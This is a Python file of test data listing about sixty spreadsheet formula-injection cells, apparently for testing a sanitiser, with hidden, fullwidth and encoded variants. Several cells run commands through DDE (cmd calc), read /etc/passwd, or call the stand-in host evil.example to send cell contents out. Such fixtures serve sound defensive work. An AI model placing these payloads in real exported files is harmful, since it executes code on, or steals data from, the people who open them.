"""Sixty cells with which people have attacked those who open a table, and the wide and trimmed forms of them."""

COMMANDS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0",
    "@cmd|'/C calc'!A0", "=2+5+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!D2", "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    '=HYPERLINK("https://evil.example","open me")', '=HYPERLINK("https://evil.example?x="&A1&B1,"error")',
    '=WEBSERVICE("https://evil.example")', '=IMPORTXML("https://evil.example","//a")',
    '=IMPORTDATA("https://evil.example")', '=IMAGE("https://evil.example/?q="&A1)',
    "='file:///etc/passwd'#$passwd.A1", '=DDE("soffice";"/etc/passwd";"a")', "=EXEC(\"calc\")", '=CALL("kernel32","x")',
    "=REGISTER.ID(1,2)", "{=1+1}", "=A1", "=-1", "=+1", "=@A1", "==1", "=",  "+", "-", "@",
)  # fmt: skip
HIDDEN = (
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   +1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\u3000=1+1",
    '"=1+1', '""=1+1"', "'=1+1", "' =1+1", "“=1+1”", "Harbor\n=1+1", "Harbor\r\n=1+1", "Harbor\t=1+1", "Harbor;=1+1",
    'Harbor";=1+1;"', "Harbor|=1+1", "\x00=1+1", "\x1b=1+1", "\x85=1+1", "\u2028=1+1",
)  # fmt: skip
WIDE = (
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    " \uff1dcmd|' /C calc'!A0",
    "\ufe621+1",
    "\u22121+1",
)
CODED = ("_x003D_1+1", "%3D1+1", "&#61;1+1", "\\u003d1+1", "<f>1+1</f>", "]]><f>1+1</f>")
CELLS = COMMANDS + HIDDEN + WIDE + CODED
